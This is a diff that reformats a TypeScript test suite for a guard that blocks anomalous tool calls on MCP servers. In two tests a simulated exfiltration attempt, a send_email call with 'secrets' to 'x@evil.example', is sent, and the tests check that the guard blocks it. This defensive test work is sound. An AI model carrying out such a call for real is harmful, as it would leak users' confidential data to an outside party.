@@ -14,7 +14,17 @@ import { guardMcpServer, BLOCKED_ERROR_CODE } from "../../js/integrations/mcp-sd
 import type { Decision } from "../../js/detector.js";
 import { connect, httpClient } from "./helpers.js";
 
-const CONFIG = { action: "block" as const, minCalls: 5, learningWindowSeconds: 0, tenantMinCalls: 5, tenantLearningWindowSeconds: 0, blockThreshold: 0.55, warnThreshold: 0.3, offHoursStart: 0, offHoursEnd: 0 };
+const CONFIG = {
+  action: "block" as const,
+  minCalls: 5,
+  learningWindowSeconds: 0,
+  tenantMinCalls: 5,
+  tenantLearningWindowSeconds: 0,
+  blockThreshold: 0.55,
+  warnThreshold: 0.3,
+  offHoursStart: 0,
+  offHoursEnd: 0,
+};
 
 function filesServer() {
   const server = new McpServer({ name: "files", version: "1.0.0" });
@@ -27,10 +37,14 @@ function registerTools(server: McpServer, ran: string[]) {
     ran.push(`read ${path}`);
     return { content: [{ type: "text", text: `contents of ${path}` }] };
   });
-  server.registerTool("send_email", { description: "send", inputSchema: { to: z.string(), body: z.string() } }, async ({ to }) => {
-    ran.push(`send ${to}`);
-    return { content: [{ type: "text", text: "sent" }] };
-  });
+  server.registerTool(
+    "send_email",
+    { description: "send", inputSchema: { to: z.string(), body: z.string() } },
+    async ({ to }) => {
+      ran.push(`send ${to}`);
+      return { content: [{ type: "text", text: "sent" }] };
+    },
+  );
   server.registerTool("fails", { description: "always fails", inputSchema: {} }, async () => {
     ran.push("fails");
     return { content: [{ type: "text", text: "no" }], isError: true };
@@ -44,7 +58,11 @@ describe("McpServer over the in-memory transport", () => {
       const detector = createDetector(CONFIG);
       const decisions: Decision[] = [];
       const { server, ran } = filesServer();
-      const guardOpts = { clock: () => now, identity: () => ({ principal: "alice", tenant: "acme" }), onDecision: (d: Decision) => decisions.push(d) };
+      const guardOpts = {
+        clock: () => now,
+        identity: () => ({ principal: "alice", tenant: "acme" }),
+        onDecision: (d: Decision) => decisions.push(d),
+      };
       if (order === "guard before tools") {
         guardMcpServer(server, detector, guardOpts);
         registerTools(server, ran);
@@ -63,7 +81,9 @@ describe("McpServer over the in-memory transport", () => {
       expect(decisions.every((d) => d.action !== "block")).toBe(true);
       const before = ran.length;
       now += 120_000;
-      const err = await client.callTool({ name: "send_email", arguments: { to: "x@evil.example", body: "secrets" } }).catch((e) => e);
+      const err = await client
+        .callTool({ name: "send_email", arguments: { to: "x@evil.example", body: "secrets" } })
+        .catch((e) => e);
       expect(err).toBeInstanceOf(McpError);
       expect(err.code).toBe(BLOCKED_ERROR_CODE);
       expect(err.message).toContain("UNSEEN_TOOL");
@@ -81,7 +101,11 @@ describe("McpServer over the in-memory transport", () => {
     const decisions: Decision[] = [];
     const { server, ran } = filesServer();
     registerTools(server, ran);
-    guardMcpServer(server, detector, { clock: () => now, identity: () => ({ principal: "bob", tenant: "acme" }), onDecision: (d) => decisions.push(d) });
+    guardMcpServer(server, detector, {
+      clock: () => now,
+      identity: () => ({ principal: "bob", tenant: "acme" }),
+      onDecision: (d) => decisions.push(d),
+    });
     const [a, b] = InMemoryTransport.createLinkedPair();
     await server.connect(b);
     const client = await connect(a);
@@ -107,7 +131,9 @@ describe("McpServer over the in-memory transport", () => {
 
 describe("low-level Server over streamable HTTP, identity from authInfo", () => {
   const servers: Array<{ close(): void }> = [];
-  afterAll(() => servers.forEach((s) => s.close()));
+  afterAll(() => {
+    for (const s of servers) s.close();
+  });
 
   it("keeps one baseline per authenticated principal and blocks only the anomalous one", async () => {
     let now = Date.UTC(2026, 0, 5, 10);
@@ -116,18 +142,28 @@ describe("low-level Server over streamable HTTP, identity from authInfo", () => 
     const makeServer = () => {
       const s = new Server({ name: "low", version: "1.0.0" }, { capabilities: { tools: {} } });
       s.setRequestHandler(ListToolsRequestSchema, async () => ({ tools: [] }));
-      s.setRequestHandler(CallToolRequestSchema, async (req) => ({ content: [{ type: "text", text: `ran ${req.params.name}` }] }));
+      s.setRequestHandler(CallToolRequestSchema, async (req) => ({
+        content: [{ type: "text", text: `ran ${req.params.name}` }],
+      }));
       guardMcpServer(s, detector, { clock: () => now });
       return s;
     };
     // The application's own authentication sets req.auth; the SDK hands it to handlers as authInfo.
     const http = createServer(async (req: IncomingMessage & { auth?: unknown }, res) => {
       const user = req.headers["x-test-user"];
-      req.auth = { token: "t", clientId: "c", scopes: [], extra: { email: user, tenant: req.headers["x-test-tenant"] } };
+      req.auth = {
+        token: "t",
+        clientId: "c",
+        scopes: [],
+        extra: { email: user, tenant: req.headers["x-test-tenant"] },
+      };
       const sid = req.headers["mcp-session-id"] as string | undefined;
       let t = sid ? transports.get(sid) : undefined;
       if (!t) {
-        t = new StreamableHTTPServerTransport({ sessionIdGenerator: () => randomUUID(), onsessioninitialized: (id) => transports.set(id, t!) });
+        t = new StreamableHTTPServerTransport({
+          sessionIdGenerator: () => randomUUID(),
+          onsessioninitialized: (id) => transports.set(id, t!),
+        });
         await makeServer().connect(t);
       }
       await t.handleRequest(req as never, res);
@@ -170,7 +206,9 @@ describe("with a Guard (js/guard.ts) in place of a detector", () => {
       await client.callTool({ name: "read_file", arguments: { path: "/a" } });
     }
     now += 120_000;
-    const err = await client.callTool({ name: "send_email", arguments: { to: "x@evil.example", body: "b" } }).catch((e) => e);
+    const err = await client
+      .callTool({ name: "send_email", arguments: { to: "x@evil.example", body: "b" } })
+      .catch((e) => e);
     expect(err).toBeInstanceOf(McpError);
     expect(guard.detector.stats().blocked).toBe(1);
     await client.close();
@@ -188,7 +226,10 @@ describe("identity from configured headers", () => {
       const sid = req.headers["mcp-session-id"] as string | undefined;
       let t = sid ? transports.get(sid) : undefined;
       if (!t) {
-        t = new StreamableHTTPServerTransport({ sessionIdGenerator: () => randomUUID(), onsessioninitialized: (id) => transports.set(id, t!) });
+        t = new StreamableHTTPServerTransport({
+          sessionIdGenerator: () => randomUUID(),
+          onsessioninitialized: (id) => transports.set(id, t!),
+        });
         const s = new Server({ name: "h", version: "1" }, { capabilities: { tools: {} } });
         s.setRequestHandler(CallToolRequestSchema, async () => ({ content: [{ type: "text", text: "ok" }] }));
         guardMcpServer(s, detector, { trustHeaders: trust, onDecision: (_d, call) => seen.push(call.identity) });
